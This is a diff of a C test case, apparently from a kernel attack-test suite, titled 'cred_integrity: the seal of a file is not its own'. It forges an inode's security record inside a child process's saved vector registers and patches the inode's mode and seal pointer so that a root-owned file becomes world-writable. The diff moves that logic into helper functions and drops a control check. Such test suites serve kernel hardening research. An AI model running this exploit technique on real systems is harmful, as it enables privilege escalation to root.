@@ -1,5 +1,6 @@
 // SPDX-License-Identifier: GPL-2.0-only
 #include "../saved_thread.h"
+#include "forged_record.h"
 
 ATTACK("cred_integrity", "record_in_registers", "cred_integrity: the seal of a file is not its own",
        "The program loads its vector registers with a record that lets everybody write to root's "
@@ -16,11 +17,6 @@ struct forgery {
 	uint64_t words[VECTOR_BYTES / 8];
 };
 
-static bool control(void)
-{
-	return is_ordinary();
-}
-
 /* Sleeps with WORDS in its vector registers. */
 static void sleep_with(const uint64_t *words)
 {
@@ -36,44 +32,30 @@ static void sleep_with(const uint64_t *words)
 			 : "rcx", "r11", "memory");
 }
 
-/* The inode's record as it is, but for its place and the mode. */
-static void forge(struct forgery *forgery, uint64_t inode)
+static void forge(struct forgery *forgery, long file)
 {
 	const uint64_t copy = saved_thread(peek(own_task() + member("task.arch.stack_top")));
 	const uint64_t place = copy + member("saved_thread.fpu") + FIRST_VECTOR;
-	const uint64_t seal = peek(inode + member("inode.seal"));
-	const uint64_t record = member("inode_seal.record");
 
-	for (unsigned long i = 0; i < VECTOR_BYTES / 8; i++)
-		forgery->words[i] = peek(seal + i * 8);
-	forgery->words[record / 8] = place + record;
-	*(uint32_t *)((char *)forgery->words + member("inode_seal.mode")) = 0100666;
+	forge_record(forgery->words, VECTOR_BYTES / 8, file, place);
 	forgery->seal = place;
 }
 
 static bool fire(void)
 {
 	const long file = call3(__NR_open, (long)PUBLIC, O_RDONLY, 0);
-	const uint64_t inode = peek(file_struct(own_task(), (int)file) + member("file.inode"));
-	const uint64_t before = peek(inode + member("inode.seal"));
 	struct forgery *const forgery = (struct forgery *)call6(
 		__NR_mmap, 0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
-	bool opened;
 
 	if (fork_program() == 0) {
-		forge(forgery, inode);
+		forge(forgery, file);
 		sleep_with(forgery->words);
 		leave(0);
 	}
 	while (forgery->seal == 0)
 		sleep_milliseconds(1);
 	sleep_milliseconds(100);
-	poke32(inode + member("inode.mode"), 0100666);
-	poke(inode + member("inode.seal"), forgery->seal);
-	opened = call3(__NR_open, (long)PUBLIC, O_RDWR, 0) >= 0 ||
-		 call2(__NR_fchmod, file, 0666) == 0;
-	poke(inode + member("inode.seal"), before);
-	return opened;
+	return opens_by(file, forgery->seal);
 }
 
 static void victim(void)
